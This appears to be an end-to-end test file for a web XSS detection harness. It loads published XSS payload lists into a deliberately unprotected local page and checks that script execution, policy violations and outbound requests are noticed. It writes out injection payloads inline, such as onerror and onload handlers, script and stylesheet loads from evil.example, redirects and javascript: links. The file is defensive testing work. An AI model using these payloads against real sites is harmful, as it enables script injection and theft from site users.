/** The other half of tests/e2e/xss_test.ts: where nothing protects a page, these texts run, and that is noticed. */
import { expect } from "expect";
import type { Browser } from "playwright-core";
import { HOSTILE, PUBLISHED } from "../support/xss/corpora.ts";
import { foreignParts, unseen } from "../support/xss/dom.ts";
import { startWatchedBrowser, Watch } from "../support/xss/watch.ts";
import { until } from "../support/wait.ts";

/** As many frames stand in a page. */
const FRAMES = 40;
/** Of each list at least so many run in a browser of today; most were made for older ones, or wait for a click. */
const RUNNING = 8;
const RAN = /: (alert|confirm|prompt|print|write|writeln|open): /;
/** {@link import("../../lib/http/security_headers.ts")} says more; what matters here is that nothing inline runs. */
const POLICY = "default-src 'self'; script-src 'self'; base-uri 'none'; form-action 'self'";

/** A site that puts into its pages whatever it is asked to, under the policy it is asked to have. */
function carelessSite() {
  const answer = ({ url }: Request) => {
    const { searchParams } = new URL(url);
    const headers = new Headers({ "content-type": "text/html; charset=utf-8" });
    const policy = searchParams.get("policy");
    if (policy) headers.set("content-security-policy", policy);
    const html = `<!doctype html><title>Careless</title><body>${searchParams.get("html") ?? ""}`;
    return new Response(html, { headers });
  };
  const server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, answer);
  return { origin: `http://127.0.0.1:${server.addr.port}`, close: () => server.shutdown() };
}

let browser: Browser;
let site: ReturnType<typeof carelessSite>;
Deno.test.beforeAll(async () => {
  browser = await startWatchedBrowser();
  site = carelessSite();
});
Deno.test.afterAll(async () => {
  await browser?.close();
  await site?.close();
});

function pathOf(html: string, policy = ""): string {
  return `/?${new URLSearchParams({ html, ...(policy && { policy }) })}`;
}

/** Opens pages full of frames, one a text. @returns the addresses of those that ran */
async function running(texts: readonly string[]): Promise<Set<string>> {
  const ran = new Set<string>();
  for (let first = 0; first < texts.length; first += FRAMES) {
    const watch = await Watch.open(browser, site.origin);
    const addresses = texts.slice(first, first + FRAMES).map((text) => site.origin + pathOf(text));
    await watch.page.goto(pathOf(""));
    await watch.page.evaluate((all) =>
      Promise.all(all.map((src) => {
        const frame = document.createElement("iframe");
        frame.src = src;
        document.body.append(frame);
        return new Promise((done) => frame.onload = done);
      })), addresses);
    for (const line of watch.noticed.filter((line) => RAN.test(line))) ran.add(line.split(": ")[0]!);
    await watch.close();
  }
  return ran;
}

Deno.test("the lists hold what they are named for", () => {
  const counts = Object.fromEntries(Object.entries(PUBLISHED).map(([name, texts]) => [name, texts.length]));
  expect(counts).toEqual({
    "Big List of Naughty Strings": 229,
    "HTML5 Security Cheatsheet": 164,
    "XSS Filter Evasion": 154,
  });
  expect(HOSTILE.length).toBeGreaterThan(600);
});

for (const [name, texts] of Object.entries(PUBLISHED)) {
  Deno.test(`scripts run, and are noticed, when a page without protection shows texts of: ${name}`, async () => {
    expect((await running(texts)).size).toBeGreaterThanOrEqual(RUNNING);
  });
}

Deno.test("every text that opens an element is noticed when it is put into a page as it is", async () => {
  const watch = await Watch.open(browser, site.origin);
  await watch.page.goto(pathOf(""));
  const texts = HOSTILE.filter((text) => /<[a-z?!]/i.test(text));
  expect(texts.length).toBeGreaterThan(400);
  const passed: string[] = [];
  for (const text of texts) {
    const html = `<!doctype html><title>x</title><body><p>${text}</p>`;
    const parts = await watch.page.evaluate(foreignParts, html);
    const lost = await watch.page.evaluate(unseen, { texts: [text], html });
    if (parts.length + lost.length === 0) passed.push(text);
  }
  expect(passed).toEqual([]);
  await watch.close();
});

/** What is put into a page → what is noticed of it. */
const SIGNS: [html: string, sign: RegExp, policy?: string][] = [
  ["<script>alert(1)</script>", /: alert: 1/],
  ["<img src=/x onerror=confirm(2)>", /: confirm: 2/],
  ["<svg onload=prompt(3)>", /: prompt: 3/],
  ["<img src=/x onerror=write(4)>", /: write: 4/],
  ["<iframe srcdoc='<script>alert(5)</script>'></iframe>", /about:srcdoc: alert: 5/],
  ["<script>alert(6)</script>", /policy: .*script-src/, POLICY],
  ["<img src=x onerror=alert(7)>", /policy: .*script-src/, POLICY],
  ["<base href=https://evil.example/>", /policy: .*base-uri/, POLICY],
  ["<style>p { color: red }</style>", /policy: .*style-src/, POLICY],
  ["<img src=https://evil.example/x.png>", /request: https:\/\/evil\.example/],
  ["<script src=//evil.example/x.js></script>", /request: http:\/\/evil\.example/],
  ["<link rel=stylesheet href=https://evil.example/x.css>", /request: https:\/\/evil\.example/],
  ["<iframe src=/></iframe>", /frame: http/],
  ["<script>location = 'https://evil.example/'</script>", /request: https:\/\/evil\.example/],
  ["<meta http-equiv=refresh content='0;url=https://evil.example/'>", /request: https:\/\/evil\.example/],
  ["<script>open('/x')</script>", /: open: \/x/],
  ["<script>throw new Error('loose')</script>", /uncaught: .*loose/],
];

for (const [html, sign, policy] of SIGNS) {
  Deno.test(`a page does not hide what it does when it holds ${html}${policy ? " under a policy" : ""}`, async () => {
    const watch = await Watch.open(browser, site.origin);
    await watch.page.goto(pathOf(html, policy));
    await until(`${sign} in ${watch.noticed}`, () => watch.noticed.some((line) => sign.test(line)));
    await watch.close();
  });
}

Deno.test("a page does not hide what stands in it when nothing has run yet", async () => {
  const watch = await Watch.open(browser, site.origin);
  await watch.page.goto(pathOf("", POLICY));
  const clean =
    "<title>x</title><body><p><a href='https://example.org/'>a</a><a href='mailto:a@example.org'>b</a>";
  expect(await watch.page.evaluate(foreignParts, clean)).toEqual([]);
  const hidden = (
    "<p onclick=x>|<xss>|<b>|<iframe>|<object>|<embed>|<style>|<video>|<table background=x>|<math>|<a href=javascript:x>|" +
    "<a href='java\tscript:x'>|<a href=data:,x>|<a href=vbscript:x>|<a href='//'>|<img src=x>|<img src='data:image/svg+xml,x'>|" +
    "<form action=//evil.example>|<button formaction=/x>|<base href=/>|<p style='background:url(x)'>|<svg><use href=x>|" +
    "<svg><a xlink:href=javascript:x>|<input><link href=//evil.example/x.css>|<template><xss></template>|<script></script>|" +
    "<meta http-equiv=refresh>"
  ).split("|");
  for (const html of hidden) {
    const found = await watch.page.evaluate(foreignParts, `${clean}${html}`);
    expect([html, found.length > 0]).toEqual([html, true]);
  }
  const texts = ["<b>x</b>", "x  y", "in a value"];
  const html = `${clean}<b>x</b><p>x\ny</p><input value="in a value">`;
  expect(await watch.page.evaluate(unseen, { texts, html })).toEqual(["<b>x</b>"]);
  await watch.close();
});
